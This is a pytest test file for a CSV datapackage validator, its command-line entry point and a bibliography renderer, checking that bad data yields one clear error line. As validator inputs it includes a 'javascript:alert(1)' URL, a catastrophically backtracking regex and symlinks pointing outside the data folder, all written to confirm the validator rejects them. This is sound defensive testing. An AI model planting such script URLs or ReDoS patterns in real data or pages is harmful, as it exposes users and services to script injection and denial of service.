def test_the_cli_prints_the_validators_line(copy, name, capsys):
    """The CLI's own entry point, in this process: the line on stdout, the count on stderr."""
    expected = BREAK[name](copy)
    assert main(["data"]) == 1
    out, err = capsys.readouterr()
    assert out.splitlines() == [expected] and err == "1 problem(s) found in data.\n"


def cli_prints_the_line_and_no_traceback(copy: Path, name: str) -> None:
    """`python -m edition.data` as a process: the one line, the count, no traceback."""
    expected = BREAK[name](copy)
    run = subprocess.run([sys.executable, "-m", "edition.data", "data"], cwd=copy.parent,
                         capture_output=True, text=True, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
    assert "Traceback" not in run.stdout + run.stderr
    assert run.returncode == 1
    assert run.stdout.splitlines() == [expected]
    assert run.stderr == "1 problem(s) found in data.\n"


@pytest.mark.parametrize("name", ["nul_byte", "descriptor_not_an_object"])  # the rest: test_bad_inputs_deep.py
def test_cli_prints_the_line_and_no_traceback(copy, name):
    cli_prints_the_line_and_no_traceback(copy, name)


@pytest.mark.parametrize("name", ["empty_file", "nul_byte", "link_to_a_file_outside_data"])
def test_loader_refuses_with_the_same_line(copy, name):
    expected = BREAK[name](copy)
    with pytest.raises(DataError) as caught:
        load("events", data_dir=copy)
    assert caught.value.problems == [expected]
    assert expected in str(caught.value)
    assert caught.value._render_traceback_() == [expected, FIX_LINE]


def test_frictionless_agrees_on_the_schema(copy):
    """The schema checks read datapackage.json as Frictionless does: both find the same cells."""
    import frictionless

    set_cell(copy, "attestations", 5, "date_start", "1923-13-01")
    set_cell(copy, "happenings", 6, "kind", "banana")
    set_cell(copy, "attestations", 7, "low", "abc")
    set_cell(copy, "happenings", 8, "outside_period", "yes")
    set_cell(copy, "quotations", 3, "quote_id", "Q 4")
    set_cell(copy, "quotations", 4, "quote_id", "q-wt-2")
    set_cell(copy, "sources", 5, "title", "")
    set_cell(copy, "sources", 8, "url", "javascript:alert(1)")
    set_cell(copy, "sources", 9, "language", "xx")
    set_cell(copy, "happenings", row_where(copy, "happenings", type="membership"), "group_id", "no-such-group")
    set_cell(copy, "size_estimates", row_where(copy, "size_estimates", high=""), "high", "-1")
    report = frictionless.validate(str(copy / "datapackage.json"))
    theirs = {(f"data/{task.name}.csv", error.row_number) for task in report.tasks for error in task.errors}
    ours = {(p.file, p.row) for p in validate(copy)}
    assert len(theirs) == 11
    assert ours == theirs


# ---- what Excel and text editors write is accepted silently -------------------------------------

def test_crlf_line_ends_are_accepted(copy):
    for table in ("happenings", "attestations", "sources"):
        put(copy, table, raw(copy, table).replace(b"\n", b"\r\n"))
    assert problems(copy) == []
    assert load("events", data_dir=copy).equals(load("events"))


def test_blank_lines_at_the_end_are_accepted(copy):
    put(copy, "attestations", raw(copy, "attestations") + b"\n\r\n\n")
    assert problems(copy) == []
    assert len(load("attestations", data_dir=copy)) == len(read(DATA_DIR, "attestations")) - 1


def test_every_cell_quoted_is_accepted(copy):
    records = read(copy, "groups")
    with open(copy / "groups.csv", "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(records)
    assert problems(copy) == []


def test_several_problems_give_one_line_each(copy):
    lines = [BREAK[name](copy) for name in ("empty_file", "url_javascript", "quote_paragraph_unknown", "soft_hyphen")]
    assert sorted(problems(copy)) == sorted(lines)


def test_a_link_added_after_a_clean_load_is_refused(copy):
    """The loader checks once per state of data/ and chapters/: a new link is a new state."""
    load("groups", data_dir=copy)
    expected = BREAK["link_to_a_folder_in_data"](copy)
    with pytest.raises(DataError) as caught:
        load("groups", data_dir=copy)
    assert caught.value.problems == [expected]



def cli_within(copy: Path, seconds: float) -> subprocess.CompletedProcess:
    """`python -m edition.data data` as a process that must finish within `seconds` (a hung
    validator fails the test instead of hanging it)."""
    try:
        return subprocess.run([sys.executable, "-m", "edition.data", "data"], cwd=copy.parent, capture_output=True,
                              text=True, timeout=seconds, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
    except subprocess.TimeoutExpired:
        pytest.fail(f"the validator still ran after {seconds} s")


@pytest.mark.parametrize("name", ["pattern_that_backtracks", "descriptor_with_100000_fields",
                                  "descriptor_with_1000_resources"])
def test_a_pathological_descriptor_is_answered_quickly(copy, name):
    expected = BREAK[name](copy)
    run = cli_within(copy, 30)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert run.stdout.splitlines() == [expected]


def test_the_issues_pattern_on_every_title_is_answered_quickly(copy):
    """The pattern of issue 26 on the happenings' titles: with re, `make validate` still ran after a minute."""
    pattern = "^(([A-Za-z0-9 ,.;'()-]+)+)+$"
    edit_descriptor(copy, lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": pattern}))
    set_cell(copy, "happenings", 5, "title", "Revolutionary after-shock in China, and a long tail of words: " + "x" * 500)
    run = cli_within(copy, 30)
    lines = run.stdout.splitlines()
    assert run.returncode == 1 and "Traceback" not in run.stderr and lines
    assert all(f"has the wrong form (expected to match {pattern})" in line for line in lines)
    assert any(line.startswith("data/happenings.csv, row 5, column title:") for line in lines)


def test_a_descriptor_at_the_limits_costs_time_in_proportion(copy):
    """1,000 columns described (the limit), the header naming 990 others: every name is looked up
    once, not compared with every other (a second, not minutes)."""
    import time

    def widen(d):
        resource(d, "groups")["schema"]["fields"].extend({"name": f"f{i}"} for i in range(1_000 - 11))
    edit_descriptor(copy, widen)
    records = read(copy, "groups")
    write(copy, "groups", [records[0] + [f"g{i}" for i in range(990)]] + [r + [""] * 990 for r in records[1:]])
    start = time.perf_counter()
    found = problems(copy)
    assert time.perf_counter() - start < 5
    assert len(found) == 989 + 990  # each missing column, each extra one



def test_every_reader_reads_the_file_the_descriptor_names(copy):
    """The descriptor points two tables at checked copies; the files it no longer names hold what
    would break the loader and the bibliography. Everything reads the checked files."""
    from edition.sphinx.book.bibliography import render

    for table in ("sources", "attestations"):
        shutil.copyfile(copy / f"{table}.csv", copy / f"{table}-checked.csv")
        edit_descriptor(copy, lambda d: resource(d, table).update(path=f"{table}-checked.csv"))
    set_cell(copy, "attestations", 53, "low", "about 30")
    set_cell(copy, "sources", 5, "source_id", "not a {key}")
    assert problems(copy) == []
    assert load("events", data_dir=copy).equals(load("events"))
    assert render(copy) == render(DATA_DIR)


def test_the_bibliography_names_file_row_and_column(copy):
    """Data the validator refuses, given to the bibliography anyway: one line, not a traceback."""
    from edition.sphinx.book.bibliography import render

    set_cell(copy, "sources", 5, "source_id", "not a {key}")
    with pytest.raises(ValueError) as caught:
        render(copy)
    assert str(caught.value) == ("data/sources.csv, row 5, column source_id: 'not a {key}' cannot be a BibTeX key: use "
                                 "a slug (lower-case letters and digits, words joined by single hyphens)")
